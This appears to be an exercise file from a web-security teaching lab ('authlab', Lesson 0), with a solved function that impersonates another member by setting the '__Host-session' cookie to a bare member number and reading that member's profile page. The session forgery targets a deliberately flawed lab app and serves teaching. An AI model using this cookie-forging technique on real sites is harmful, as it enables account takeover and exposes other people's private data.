"""Lesson 0: an attack in one request."""

from authlab.lab.browser import Browser


def be_somebody_else(browser: Browser) -> str:
    """Return the text of another member's profile page: the page of member 3.

    You get `browser`, a visitor's browser that has never signed in. The app it
    talks to has a hole: while it was written, somebody found it handy to let a
    session cookie be a bare member number, and nobody took that out again. The
    cookie's name is `__Host-session`.

    - `browser.set_cookie(name, value)` writes a cookie, as you can in your
      browser's developer tools.
    - `browser.get("/profile")` opens the profile page; the answer's `.text` is
      its HTML.

    Against the app without the hole the same requests bring nothing, and must
    not crash: return what comes.
    """
    browser.set_cookie("__Host-session", "3")
    return browser.get("/profile").text
